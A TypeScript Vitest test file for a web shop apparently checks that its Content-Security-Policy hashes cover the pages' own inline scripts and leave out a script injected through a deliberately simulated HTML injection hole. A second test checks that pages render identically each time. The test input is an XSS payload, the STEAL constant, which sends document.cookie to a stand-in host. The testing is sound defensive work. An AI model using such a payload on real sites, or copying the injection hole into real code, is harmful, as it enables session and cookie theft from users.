import { createHash } from 'node:crypto'
import { resolve } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterEach, expect, it, vi } from 'vitest'
import type { Application } from '#server/http/paginas/pages.ts'
import { openRuntime } from './databases.ts'
import { LOG_ERROR, ORIGIN, openShopApp } from './shop-app.ts'

// Each test puts the whole shop together, on a machine that does other things too.
vi.setConfig({ testTimeout: 180_000 })

const STEAL = 'fetch("https://elsewhere.example/?" + document.cookie)'
const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`

const cleanups: (() => Promise<void>)[] = []
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).toReversed()) await cleanup()
})

/** The built shop, but that its pages put something raw that they were given. */
async function withHole(raw: string): Promise<Application> {
  const built = (await import(pathToFileURL(resolve('build/app/server/index.js')).href)) as Application
  const { default: render } = built.entry.module
  const handleRequest: typeof render = async (...given) => {
    const response = await render(...given)
    const html = await response.text()
    return new Response(
      html.replace(/<main[^>]*>/, (tag) => tag + raw),
      response,
    )
  }
  return { ...built, entry: { module: { ...built.entry.module, default: handleRequest } } }
}

/** A shop of its own with such a hole, and what it answers. */
async function openWithHole(raw: string) {
  const runtime = await openRuntime('sqlite', (cleanup) => void cleanups.push(cleanup))
  const { request, logged } = await openShopApp(runtime, { loadApplication: () => withHole(raw) })
  return async function read(path: string) {
    const response = await request(ORIGIN + path)
    expect(logged(LOG_ERROR), path).toEqual([])
    const policy = response.headers.get('Content-Security-Policy')!
    return { html: await response.text(), policy, etag: response.headers.get('ETag') }
  }
}

it('22.82 a script that got into a page by a hole is in no policy, and a page’s own are, each', async () => {
  const read = await openWithHole(`<script>${STEAL}</script><script nonce="">${STEAL}</script>`)
  for (const path of ['/stock', '/cart', '/login', '/no-hay']) {
    const { html, policy } = await read(path)
    expect(html, path).toContain(`<script>${STEAL}</script>`)
    expect(policy).not.toContain(hashOf(STEAL))
    const own = [...html.matchAll(/<script(?: type="module" async="")?>(.*?)<\/script>/gs)].map(([, code]) => code!)
    expect(own.length).toBeGreaterThan(4)
    for (const code of own.filter((one) => one !== STEAL)) expect(policy, code).toContain(hashOf(code))
    expect(policy.match(/'sha256-/g)).toHaveLength(own.length - 1)
  }
})

it('22.6, 22.82 a page made again is the same, to the letter, with the same tag and policy', async () => {
  const [first, again] = [await (await openWithHole(''))('/stock'), await (await openWithHole(''))('/stock')]
  expect(first.html).toContain('<h1')
  expect(again.html).toBe(first.html)
  expect(again).toEqual(first)
  expect(first.html).not.toContain('nonce')
})
